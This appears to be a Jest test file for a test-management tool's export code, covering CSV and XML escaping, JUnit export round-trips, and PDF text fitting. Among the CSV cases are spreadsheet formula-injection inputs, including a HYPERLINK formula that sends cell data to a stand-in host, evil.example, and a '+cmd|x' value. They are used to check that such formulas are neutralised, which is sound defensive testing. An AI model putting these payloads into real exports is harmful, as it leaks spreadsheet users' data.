import PDFDocument from 'pdfkit';
import { isWellFormedText } from '../../../common/validation/well-formed';
import { parseJunit } from '../../imports/junit/junit-parser';
import type { ReportRow } from '../report';
import type { ReportItemWithRows } from '../exports.repository';
import { addToTotals, emptyTotals, junitTestcase, splitComment } from './junit';
import { sliceSvgPath } from './pdf';
import { fitText, PDF_FONT, pdfInfoText, pdfText, registerPdfFonts } from './pdf-fonts';
import { csvField, csvLine, xmlAttr, xmlTagName, xmlText } from './text';
import { xmlElement } from './xml';

describe('CSV (RFC 4180)', () => {
  it.each([
    [null, ''],
    [12, '12'],
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    [' padded', '" padded"'],
    [['a', 'b'], 'a;b'],
    // Formula injection (found by an audit): text a spreadsheet would run is shown as text.
    [
      '=HYPERLINK("https://evil.example/?d="&A2,"x")',
      '"\'=HYPERLINK(""https://evil.example/?d=""&A2,""x"")"',
    ],
    ['+cmd|x', "'+cmd|x"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    [['=a', 'b'], "'=a;b"],
    [-5, '-5'],
    ['a=b', 'a=b'],
  ])('field %j → %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it('ends lines with CRLF', () => {
    expect(csvLine(['a', null, 'b,c'])).toBe('a,,"b,c"\r\n');
  });
});

describe('XML text', () => {
  it('escapes markup and replaces characters XML cannot carry', () => {
    expect(xmlText('a < b & c > d\u0001')).toBe('a &lt; b &amp; c &gt; d\uFFFD');
    expect(xmlAttr('"q"\nx')).toBe('&quot;q&quot;&#10;x');
  });

  it.each([
    ['pass_rate', 'pass_rate'],
    ['a b/c', 'a_b_c'],
    ['__x__', 'x'],
    ['', 'field'],
    ['1st', 'field_1st'],
  ])('tag name of %j is %j', (key, tag) => {
    expect(xmlTagName(key)).toBe(tag);
  });

  it('writes objects, lists of <item>, empty elements for null, Python-like floats for rates', () => {
    expect(xmlElement('summary', { total: 2, pass_rate: 50, note: null, list: ['a'] }, 0)).toBe(
      '<summary>\n  <total>2</total>\n  <pass_rate>50.0</pass_rate>\n  <note />\n  <list>\n    <item>a</item>\n  </list>\n</summary>\n',
    );
  });
});

describe('JUnit export', () => {
  const baseRow: ReportRow = {
    id: 'r1',
    label: 'test_login',
    status: 'failure',
    comment: 'logout failed\n\nTraceback: boom',
    defect_ids: [],
    actual_result: null,
    executed_by: null,
    executed_by_name: null,
    execution_count: 1,
    last_executed_at: null,
    started_at: null,
    finished_at: null,
    duration_ms: 1500,
    system_out: 'out',
    system_err: null,
  };
  const item = (overrides: Partial<ReportItemWithRows> = {}): ReportItemWithRows =>
    ({
      id: 'i1',
      test_case: {
        id: 'c1',
        key: 'TC-1',
        title: 'Login works',
        priority: null,
        tags: [],
        suite_name: 'Login',
        automation_id: 'auth.login',
      },
      suite_path: ['Auth', 'Login'],
      rows: [baseRow],
      ...overrides,
    }) as ReportItemWithRows;

  it.each([
    [null, { message: null, body: null }],
    ['single', { message: 'single', body: null }],
    ['m\n\nd\n\ne', { message: 'm', body: 'd\n\ne' }],
    ['first\nsecond', { message: 'first', body: 'second' }],
  ])('splits comment %j', (comment, expected) => {
    expect(splitComment(comment)).toEqual(expected);
  });

  it('counts rows with a result only', () => {
    const t = emptyTotals();
    addToTotals(t, 'passed', 2, 100);
    addToTotals(t, 'xpassed', 1, 0);
    addToTotals(t, 'error', 1, 0);
    addToTotals(t, 'blocked', 1, 0);
    addToTotals(t, 'xfailed', 1, 0);
    addToTotals(t, 'untested', 5, 0);
    expect(t).toEqual({ tests: 6, failures: 1, errors: 1, skipped: 2, duration_ms: 100 });
  });

  it('leaves out rows without a result', () => {
    expect(junitTestcase(item(), { ...baseRow, status: 'untested' })).toBeNull();
    expect(junitTestcase(item(), { ...baseRow, status: 'in_progress' })).toBeNull();
  });

  it.each([
    ['passed', 'passed'],
    ['failure', 'failure'],
    ['error', 'error'],
    ['skipped', 'skipped'],
    ['xfailed', 'xfailed'],
    ['xpassed', 'xpassed'],
    ['blocked', 'skipped'],
  ] as const)(
    'a %s row parses back as %s with the same identity, suite, title, label and comment',
    async (status, back) => {
      const tc = junitTestcase(item(), { ...baseRow, status });
      const report = await parseJunit(
        `<testsuites><testsuite name="Run">${tc ?? ''}</testsuite></testsuites>`,
      );
      const [result] = report.results;
      expect(result).toMatchObject({
        status: back,
        title: 'Login works',
        suite_path: ['Auth', 'Login'],
        automation_id: 'auth.login',
        duration_ms: 1500,
        dataset: { key: 'test_login' },
      });
      if (status === 'failure' || status === 'error')
        expect(result?.comment).toBe('logout failed\n\nTraceback: boom');
      if (status === 'failure') expect(result?.system_out).toBe('out');
    },
  );

  it('does not prefix [XPASS(strict)] twice', () => {
    const tc =
      junitTestcase(item(), { ...baseRow, status: 'xpassed', comment: '[XPASS(strict)] ok' }) ?? '';
    expect(tc.match(/XPASS/g)).toHaveLength(1);
  });

  it('omits classname and suite path for a case without suite', () => {
    const tc = junitTestcase(item({ suite_path: [] }), { ...baseRow, status: 'passed' }) ?? '';
    expect(tc).not.toContain('classname');
    expect(tc).not.toContain('tms_suite_path');
  });
});

describe('PDF helpers', () => {
  it.each([
    ['Western European and typography', 'Grüße – “ok” € …', 'Grüße – “ok” € …'],
    // The standard fonts showed these as `?` (WinAnsi only).
    ['Polish', 'Zażółć gęślą jaźń', 'Zażółć gęślą jaźń'],
    ['Czech, Turkish, Romanian', 'Příliš žluťoučký · şığ · ș ț', 'Příliš žluťoučký · şığ · ș ț'],
    ['Vietnamese', 'Tiếng Việt', 'Tiếng Việt'],
    ['Greek and Cyrillic', 'Ελληνικά · Проверка входа', 'Ελληνικά · Проверка входа'],
    ['symbols', 'passed ✓ failed ✗ → ≤ ±', 'passed ✓ failed ✗ → ≤ ±'],
    ['CJK and emoji: not in the font', 'ログイン 测试 🚀', '???? ?? ?'],
    ['right to left: not reordered, so not shown', 'בדיקה اختبار', '????? ??????'],
    ['controls (C0, DEL, C1) become spaces', 'a\u0007b\u007fc\u0085d\te', 'a b c d e'],
    ['a lone surrogate', 'x\ud800y', 'x?y'],
    ['nothing', null, ''],
  ])('pdfText keeps what the font draws: %s', (_what, given, shown) => {
    expect(pdfText(given)).toBe(shown);
  });

  describe('fitText', () => {
    const doc = new PDFDocument();
    registerPdfFonts(doc);
    const width = (text: string) => doc.font(PDF_FONT.regular).fontSize(8).widthOfString(text);

    it.each([
      ['short text', 'passed', 60],
      ['an empty cell', '', 10],
      ['exactly what pdfkit measures as fitting', 'Unassigned', 47],
    ])('leaves %s as it is', (_what, text, room) => {
      expect(fitText(text, 'regular', 8, room)).toBe(text);
    });

    it.each([
      ['a long title', 'test_case_number_4711_does_something_useful_with_a_long_name', 145],
      ['Cyrillic', 'Проверка входа с неверным паролем и длинным названием', 80],
      ['wide letters', 'WWWWWWWWWWWWWWWWWWWWWWWWWWWWWW', 40],
      ['a timestamp', '2026-11-29 01:21', 58],
    ])(
      'cuts %s to the column, ending in an ellipsis, as pdfkit measures it',
      (_what, text, room) => {
        const fitted = fitText(text, 'regular', 8, room);
        expect(fitted.endsWith('…')).toBe(true);
        expect(text.startsWith(fitted.slice(0, -1).trimEnd())).toBe(true);
        expect(width(fitted)).toBeLessThanOrEqual(room);
        // Not cut too early: the next character (past the spaces the cut trimmed) would not fit.
        let next = fitted.length - 1;
        while (text[next] === ' ') next += 1;
        expect(width(`${text.slice(0, next + 1)}…`)).toBeGreaterThan(room - 1);
      },
    );

    it('never splits a character outside the Basic Multilingual Plane', () => {
      const fitted = fitText('𝐀𝐁𝐂𝐃𝐄𝐅𝐆𝐇𝐈𝐉𝐊𝐋', 'regular', 8, 30);
      expect(fitted.endsWith('…')).toBe(true);
      expect(isWellFormedText(fitted)).toBe(true);
    });
  });

  it('pdfInfoText keeps any script for the metadata, without controls or lone surrogates', () => {
    expect(pdfInfoText('ログイン\u0007テスト\ud800')).toBe('ログイン テスト\ufffd');
  });

  it('draws pie slices clockwise from 12 o’clock', () => {
    expect(sliceSvgPath(0, 0, 10, 0, Math.PI / 2)).toBe(
      'M 0 0 L 0.00 -10.00 A 10 10 0 0 1 10.00 0.00 Z',
    );
    expect(sliceSvgPath(0, 0, 10, 0, (3 * Math.PI) / 2)).toContain(' 0 1 1 ');
  });
});
